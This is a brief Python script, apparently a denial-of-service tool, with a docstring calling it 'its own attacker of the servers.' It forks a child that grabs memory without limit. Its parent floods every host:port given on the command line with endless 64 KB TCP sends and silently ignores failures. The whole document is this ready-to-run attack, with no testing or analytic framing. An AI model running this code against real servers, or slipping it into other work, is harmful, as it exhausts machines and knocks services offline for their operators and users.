"""Takes all the memory and all the processors that it can get, and serves as its own attacker of the servers."""

import os
import socket
import sys

if os.fork() == 0:
    held = []
    while True:
        held.append(bytearray(1 << 20))
while True:
    for word in sys.argv[1:]:
        host, _, port = word.rpartition(":")
        try:
            socket.create_connection((host or "127.0.0.1", int(port)), timeout=1).sendall(b"x" * 65536)
        except (OSError, ValueError):
            pass
